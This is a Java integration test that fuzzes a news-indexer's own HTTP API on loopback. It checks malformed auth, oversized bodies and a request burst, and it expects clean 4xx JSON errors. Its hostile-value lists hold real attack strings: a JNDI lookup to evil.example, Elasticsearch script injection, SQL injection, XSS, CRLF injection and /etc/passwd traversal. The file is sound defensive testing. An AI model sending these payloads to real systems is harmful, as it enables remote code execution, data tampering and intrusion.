package io.veille.indexer.http;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import io.veille.indexer.query.ElasticsearchArticleQueries;
import io.veille.indexer.testing.Articles;
import io.veille.indexer.testing.IndexerFixture;
import io.veille.localstack.LocalStack;
import io.veille.localstack.LocalStackExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The HTTP API under attack, against the real Elasticsearch and Kafka: every parameter of every
 * endpoint fuzzed (wrong types, huge values, query-DSL and script injection, path traversal, bad
 * percent-encodings) gives a 4xx JSON error or a normal answer, never a 5xx and never Elasticsearch's
 * own error text; writes without the token are 401; a burst from loopback leaves the service up.
 */
@ExtendWith(LocalStackExtension.class)
class ApiHostileIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Words of Elasticsearch's (or the JVM's) error reports that must never reach a client. */
    private static final List<String> LEAKS = List.of("elasticsearch", "co.elastic", "exception", "caused_by", "root_cause",
            "_shard", "x_content", "lucene", "painless", "stack_trace", "java.", "org.apache", "failed to parse");

    /** Values meant to break parsing or reach Elasticsearch as something other than a value: sent percent-encoded. */
    private static final List<String> HOSTILE = List.of(
            "", " ", "abc", "-1", "0", "1.5", "1e3", "NaN", "Infinity", "true", "null", "[]", "{}", "0x10",
            "99999999999999999999", "2147483648", "-2147483649", "9".repeat(400), "x".repeat(5000),
            "999999999d", "-7d", "0h", "1y", "P1D", "2026-13-45", "9999-12-31T23:59:59Z", "0000-00-00",
            "{\"match_all\":{}}", "{\"script\":{\"source\":\"System.exit(0)\",\"lang\":\"painless\"}}",
            "\"}},\"script\":{\"source\":\"ctx._source.title='pwned'\"}}", "*", "*:*", "_all", "title:* OR _exists_:id",
            "/.*/", "a~99999", "(((((((((((((((((((((((((((((((((((((((((((((x", "\\", "\"", "'; DROP TABLE articles; --",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "../../_cluster/settings", "..%2F..%2F_cat",
            "\u0000", "\u0007bell", "\r\nX-Injected: 1", "\uFEFF", "é".repeat(200), "😀", "\uD800", "a,b,,c,", ",,,,");
    /** Raw query values, sent as they are: broken percent-encodings and encoded nonsense. */
    private static final List<String> RAW = List.of("%", "%zz", "%C0%AF", "%ff%fe", "%u0041", "%E2%82", "%00", "%0d%0a",
            "%2e%2e%2f%2e%2e%2f", "+%2B+", "%F4%90%80%80", "%ED%A0%80");

    private static final Map<String, List<String>> PARAMETERS = Map.of(
            "/api/search", List.of("q", "topic", "lang", "source", "tag", "since", "from", "to", "sponsored", "sort", "size",
                    "after", "histogram", "unknown"),
            "/api/suggest", List.of("prefix", "size", "unknown"),
            "/api/topics", List.of("unknown"),
            "/api/trends", List.of("topic", "interval", "since", "unknown"),
            "/api/events/upcoming", List.of("days", "topic", "kind", "size", "unknown"),
            "/api/alerts", List.of("size", "unknown"),
            "/api/watches", List.of("unknown"));

    /** Path segments for ids: traversal, wildcards, index names, overlong and encoded nonsense (raw). */
    private static final List<String> IDS = List.of("..", "%2e%2e", "..%2F..%2F_cluster%2Fsettings", "%2F", "*", "_all",
            "_search", "a".repeat(600), "0".repeat(32) + "%00", "%ff", "%", "%zz", "id%20with%20space", "%3Cscript%3E",
            "0123456789abcdef0123456789abcdef", "0123456789ABCDEF0123456789ABCDEF", "-1", "%7B%22match_all%22%3A%7B%7D%7D",
            "%E2%82");

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    private interface Check {
        void run(ApiServer server, IndexerFixture world, String base) throws Exception;
    }

    private void withServer(LocalStack stack, String name, Check check) throws Exception {
        try (IndexerFixture world = new IndexerFixture(stack, name);
             KafkaWatchRegistry watches = new KafkaWatchRegistry(world.settings.kafkaProperties(), world.settings.topics().watches());
             KafkaAlertSource alerts = new KafkaAlertSource(world.settings.kafkaProperties(), world.settings.topics().alerts(), 100);
             ApiServer server = new ApiServer(new ElasticsearchArticleQueries(world.es, world.settings.alias()), watches, alerts,
                     new PrometheusMeterRegistry(PrometheusConfig.DEFAULT), world.settings.apiToken(), Clock.systemUTC())
                     .start("127.0.0.1", 0)) {
            world.indexAll(IntStream.range(0, 12).mapToObj(Articles::article).toList());
            check.run(server, world, "http://127.0.0.1:" + server.port());
        }
    }

    private HttpResponse<String> send(String method, String uri, String token, String body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(uri)).timeout(Duration.ofSeconds(60));
        if (token != null) {
            b.header("Authorization", token);
        }
        b.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    /**
     * A GET sent on a plain socket, the request target exactly as given: the JDK client refuses to send
     * broken percent-encodings, an attacker's client does not.
     */
    private static HttpResponse<String> rawGet(String base, String target) throws Exception {
        URI uri = URI.create(base);
        try (java.net.Socket socket = new java.net.Socket(uri.getHost(), uri.getPort())) {
            socket.setSoTimeout(60_000);
            socket.getOutputStream().write(("GET " + target + " HTTP/1.1\r\nHost: " + uri.getHost() + ":" + uri.getPort()
                    + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().flush();
            byte[] all = socket.getInputStream().readAllBytes();
            String text = new String(all, StandardCharsets.UTF_8);
            int headEnd = text.indexOf("\r\n\r\n");
            String head = headEnd < 0 ? text : text.substring(0, headEnd);
            String body = headEnd < 0 ? "" : text.substring(headEnd + 4);
            if (head.toLowerCase(Locale.ROOT).contains("transfer-encoding: chunked")) {
                StringBuilder decoded = new StringBuilder();
                String rest = body;
                while (true) {
                    int eol = rest.indexOf("\r\n");
                    int size = eol < 0 ? 0 : Integer.parseInt(rest.substring(0, eol).trim(), 16);
                    if (size == 0) {
                        break;
                    }
                    byte[] restBytes = rest.substring(eol + 2).getBytes(StandardCharsets.UTF_8);
                    String chunk = new String(restBytes, 0, size, StandardCharsets.UTF_8);
                    decoded.append(chunk);
                    rest = new String(restBytes, size + 2, restBytes.length - size - 2, StandardCharsets.UTF_8);
                }
                body = decoded.toString();
            }
            int status = Integer.parseInt(head.split(" ", 3)[1]);
            String finalBody = body;
            return new SimpleResponse(status, finalBody);
        }
    }

    /** Just the status and body of a response read off a socket. */
    private record SimpleResponse(int statusCode, String body) implements HttpResponse<String> {
        @Override
        public HttpRequest request() {
            return null;
        }

        @Override
        public java.util.Optional<HttpResponse<String>> previousResponse() {
            return java.util.Optional.empty();
        }

        @Override
        public java.net.http.HttpHeaders headers() {
            return java.net.http.HttpHeaders.of(Map.of(), (a, b) -> true);
        }

        @Override
        public java.util.Optional<javax.net.ssl.SSLSession> sslSession() {
            return java.util.Optional.empty();
        }

        @Override
        public URI uri() {
            return null;
        }

        @Override
        public HttpClient.Version version() {
            return HttpClient.Version.HTTP_1_1;
        }
    }

    /** What is wrong with this answer, or null: a 5xx, a status not allowed, a leak, an error that is not JSON. */
    private static String problem(String what, HttpResponse<String> response, Set<Integer> allowed) {
        int status = response.statusCode();
        String body = response.body();
        if (!allowed.contains(status)) {
            return what + " -> " + status + " " + abbreviate(body);
        }
        if (status == 400 && body.equals("<h1>400 Bad Request</h1>URISyntaxException thrown")) {
            return null; // the JDK's server refuses a request target it cannot parse before any Veille code runs
        }
        if (status >= 400) {
            String lower = body.toLowerCase(Locale.ROOT);
            for (String leak : LEAKS) {
                if (lower.contains(leak)) {
                    return what + " -> " + status + " leaks '" + leak + "': " + abbreviate(body);
                }
            }
            try {
                JsonNode error = JSON.readTree(body);
                if (error.get("status").asInt() != status || error.get("error").asText().isBlank()) {
                    return what + " -> error body without status/error: " + abbreviate(body);
                }
            } catch (Exception e) {
                return what + " -> error body is not JSON: " + abbreviate(body);
            }
        }
        return null;
    }

    private static String abbreviate(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "…" : s;
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    @Test
    void everyParameterOfEveryEndpointFuzzedGivesA4xxOrAnAnswerNeverA5xxNorElasticsearchText(LocalStack stack) throws Exception {
        withServer(stack, "it-hostile-api", (server, world, base) -> {
            List<String> problems = new ArrayList<>();
            int sent = 0;
            Set<Integer> readOnly = Set.of(200, 400, 404);
            for (var endpoint : PARAMETERS.entrySet()) {
                for (String parameter : endpoint.getValue()) {
                    List<String> values = new ArrayList<>();
                    HOSTILE.forEach(v -> values.add(enc(v)));
                    values.addAll(RAW);
                    for (String value : values) {
                        // alone, and beside the parameters an endpoint needs, so that the value itself is what is judged
                        String needed = endpoint.getKey().equals("/api/trends") && !parameter.equals("topic") ? "topic=ai&"
                                : endpoint.getKey().equals("/api/suggest") && !parameter.equals("prefix") ? "prefix=K&" : "";
                        String target = endpoint.getKey() + "?" + needed + enc(parameter) + "=" + value;
                        String what = "GET " + endpoint.getKey() + "?" + needed + parameter + "=" + abbreviate(value);
                        String p = problem(what, rawGet(base, target), readOnly);
                        sent++;
                        if (p != null) {
                            problems.add(p);
                        }
                    }
                    // the same parameter twice, and an overlong list
                    String twice = base + endpoint.getKey() + "?" + parameter + "=a&" + parameter + "=b";
                    String p = problem("GET " + endpoint.getKey() + " with " + parameter + " twice", send("GET", twice, null, null), readOnly);
                    if (p != null) {
                        problems.add(p);
                    }
                    String many = base + endpoint.getKey() + "?" + parameter + "=" + enc(String.join(",", java.util.Collections.nCopies(2000, "ai")));
                    p = problem("GET " + endpoint.getKey() + " with 2000 " + parameter, send("GET", many, null, null), readOnly);
                    if (p != null) {
                        problems.add(p);
                    }
                    sent += 2;
                }
            }
            for (String id : IDS) {
                for (String path : List.of("/api/articles/" + id, "/api/articles/" + id + "/similar", "/api/articles/" + id + "/similar?size=5")) {
                    String p = problem("GET " + abbreviate(path), rawGet(base, path), readOnly);
                    sent++;
                    if (p != null) {
                        problems.add(p);
                    }
                }
                String p = id.contains("%") && !id.matches("(%[0-9A-Fa-f]{2}|[^%])*") ? null : problem("DELETE /api/watches/" + abbreviate(id),
                        send("DELETE", base + "/api/watches/" + id, "Bearer " + world.settings.apiToken(), null), Set.of(400, 404));
                sent++;
                if (p != null) {
                    problems.add(p);
                }
            }
            // traversal through the path itself
            for (String path : List.of("/api/../health/live", "/api/articles/../../etc/passwd", "/api/%2e%2e/%2e%2e/etc/passwd",
                    "//api//search", "/api/search/", "/api/articles/", "/api/articles//similar", "/API/SEARCH", "/api/search;jsessionid=1")) {
                String p = problem("GET " + path, rawGet(base, path), Set.of(200, 400, 404));
                sent++;
                if (p != null) {
                    problems.add(p);
                }
            }
            System.out.println("MEASURE api-fuzz requests=" + sent + " problems=" + problems.size());
            assertThat(problems).as("%d requests", sent).isEmpty();
            assertThat(send("GET", base + "/health/ready", null, null).statusCode()).isEqualTo(200);
        });
    }

    @Test
    void hostileWatchBodiesAre400AndWritesWithoutTheTokenAre401(LocalStack stack) throws Exception {
        withServer(stack, "it-hostile-watch", (server, world, base) -> {
            String token = "Bearer " + world.settings.apiToken();
            String good = "{\"id\":\"w1\",\"name\":\"Veille\",\"topicsAny\":[\"ai\"]}";
            List<String> problems = new ArrayList<>();
            // no token, a wrong one, a wrong scheme, the token in another case or padded inside: 401, and nothing written
            // (spaces around the whole value are not part of an HTTP field value, so they are not tried)
            for (String bad : new String[] {null, "", "Bearer", "Bearer ", "Bearer wrong", "bearer " + world.settings.apiToken(),
                    "Basic " + world.settings.apiToken(), token + "x", "Bearer  " + world.settings.apiToken(), "Bearer " + world.settings.apiToken().toUpperCase(Locale.ROOT)}) {
                String p = problem("POST with Authorization=" + bad, send("POST", base + "/api/watches", bad, good), Set.of(401));
                if (p != null) {
                    problems.add(p);
                }
                p = problem("DELETE with Authorization=" + bad, send("DELETE", base + "/api/watches/w1", bad, null), Set.of(401));
                if (p != null) {
                    problems.add(p);
                }
            }
            assertThat(world.readAll(world.settings.topics().watches())).as("nothing written without the token").isEmpty();

            String deep = "[".repeat(5000) + "]".repeat(5000);
            List<String> bodies = List.of("", "not json", "null", "[]", "42", "\"text\"", "{", deep,
                    "{\"name\":\"n\",\"topicsAny\":\"ai\"}", "{\"name\":42,\"topicsAny\":[\"ai\"]}", "{\"name\":\"n\"}",
                    "{\"name\":\"n\",\"topicsAny\":[\"ai\"],\"unknown\":1}", "{\"name\":\"n\",\"topicsAny\":[{\"script\":\"x\"}]}",
                    "{\"name\":\"n\",\"topicsAny\":[\"ai\"],\"minScore\":\"high\"}", "{\"name\":\"n\",\"topicsAny\":[\"ai\"],\"minScore\":1e999}",
                    "{\"id\":\"../../etc\",\"name\":\"n\",\"topicsAny\":[\"ai\"]}", "{\"id\":\"" + "a".repeat(500) + "\",\"name\":\"n\",\"topicsAny\":[\"ai\"]}",
                    "{\"name\":\"" + "n".repeat(20_000) + "\",\"topicsAny\":[\"ai\"]}",
                    "{\"name\":\"n\",\"keywords\":[" + String.join(",", java.util.Collections.nCopies(3000, "\"k\"")) + "]}",
                    "{\"name\":\"n\",\"topicsAny\":[\"ai\"],\"languages\":[\"\\u0000\"]}", "{\"name\":\"\\ud800\",\"topicsAny\":[\"ai\"]}",
                    "{\"name\":\"n\",\"topicsAny\":[\"ai\"],\"name\":\"twice\"}");
            for (String body : bodies) {
                String p = problem("POST " + abbreviate(body), send("POST", base + "/api/watches", token, body), Set.of(400));
                if (p != null) {
                    problems.add(p);
                }
            }
            String p = problem("POST of 1 MB", send("POST", base + "/api/watches", token, "{\"name\":\"" + "n".repeat(1 << 20) + "\"}"),
                    Set.of(400, 413));
            if (p != null) {
                problems.add(p);
            }
            assertThat(problems).isEmpty();
            assertThat(send("POST", base + "/api/watches", token, good).statusCode()).isEqualTo(201);
        });
    }

    @Test
    void aBurstFromLoopbackLeavesTheServiceUpAndAnsweringHealthChecks(LocalStack stack) throws Exception {
        withServer(stack, "it-hostile-burst", (server, world, base) -> {
            String id = Articles.article(3).id();
            List<String> uris = List.of("/api/search?q=container", "/api/search?topic=ai&size=5", "/api/articles/" + id,
                    "/api/suggest?prefix=K", "/api/topics", "/api/search?size=-1", "/api/articles/nope", "/health/live");
            // open loop: one request every millisecond whatever the answers take (closed-loop senders would
            // slow down with the server and never offer 1,000 requests/s)
            long intervalNanos = Duration.ofMillis(1).toNanos();
            Duration length = Duration.ofSeconds(10);
            Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
            List<String> failures = new CopyOnWriteArrayList<>();
            AtomicInteger refused = new AtomicInteger();
            Map<String, AtomicInteger> refusals = new ConcurrentHashMap<>();
            AtomicBoolean bursting = new AtomicBoolean(true);
            List<Integer> healthDuring = new CopyOnWriteArrayList<>();
            HttpClient burstClient = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

            HttpClient probe = HttpClient.newHttpClient();
            Thread health = new Thread(() -> {
                while (bursting.get()) {
                    try {
                        // as a liveness probe would: an answer within 2 s, or the service counts as dead
                        healthDuring.add(probe.send(HttpRequest.newBuilder(URI.create(base + "/health/live"))
                                .timeout(Duration.ofSeconds(2)).build(), HttpResponse.BodyHandlers.discarding()).statusCode());
                        Thread.sleep(250);
                    } catch (InterruptedException e) {
                        return;
                    } catch (Exception e) {
                        healthDuring.add(-1);
                    }
                }
            });
            health.start();
            List<CompletableFuture<Void>> answers = new ArrayList<>();
            long start = System.nanoTime();
            for (int i = 0; System.nanoTime() - start < length.toNanos(); i++) {
                String uri = base + uris.get(i % uris.size());
                answers.add(burstClient.sendAsync(HttpRequest.newBuilder(URI.create(uri)).timeout(Duration.ofSeconds(60)).build(),
                                HttpResponse.BodyHandlers.discarding())
                        .handle((response, error) -> {
                            if (error != null) {
                                // the overload answer of a full server: its backlog refuses or resets the connection
                                refused.incrementAndGet();
                                Throwable cause = error.getCause() != null ? error.getCause() : error;
                                refusals.computeIfAbsent(cause.getClass().getSimpleName(), k -> new AtomicInteger()).incrementAndGet();
                            } else {
                                statuses.computeIfAbsent(response.statusCode(), k -> new AtomicInteger()).incrementAndGet();
                                if (response.statusCode() >= 500 && response.statusCode() != 503) {
                                    failures.add(uri + " -> " + response.statusCode());
                                }
                            }
                            return null;
                        }));
                long wait = start + (i + 1) * intervalNanos - System.nanoTime();
                if (wait > 0) {
                    Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
                }
            }
            double offeredSeconds = (System.nanoTime() - start) / 1e9;
            int offered = answers.size();
            CompletableFuture.allOf(answers.toArray(CompletableFuture[]::new)).get(120, TimeUnit.SECONDS);
            double seconds = (System.nanoTime() - start) / 1e9;
            bursting.set(false);
            health.join();
            int answered = statuses.values().stream().mapToInt(AtomicInteger::get).sum();
            System.out.printf(Locale.ROOT, "MEASURE api-burst offered=%d in %.1f s (%.0f/s) answered=%d refused=%d all-answered-after=%.1f s statuses=%s refusals=%s health-checks-during=%d%n",
                    offered, offeredSeconds, offered / offeredSeconds, answered, refused.get(), seconds, statuses, refusals, healthDuring.size());
            assertThat(offered / offeredSeconds).as("requests offered per second").isGreaterThan(500);
            assertThat(failures).as("failed requests").isEmpty();
            // a liveness probe (2 s timeout, restart after 3 failures in a row) never restarts the service
            assertThat(healthDuring).hasSizeGreaterThanOrEqualTo(20);
            assertThat(longestRunOfFailures(healthDuring)).as("health checks in a row without a 200 within 2 s: " + healthDuring)
                    .isLessThan(3);
            assertThat(send("GET", base + "/health/live", null, null).statusCode()).isEqualTo(200);
            assertThat(send("GET", base + "/health/ready", null, null).statusCode()).isEqualTo(200);
            assertThat(send("GET", base + "/api/articles/" + id, null, null).statusCode()).isEqualTo(200);
        });
    }

    private static int longestRunOfFailures(List<Integer> statuses) {
        int longest = 0;
        int run = 0;
        for (int status : statuses) {
            run = status == 200 ? 0 : run + 1;
            longest = Math.max(longest, run);
        }
        return longest;
    }
}
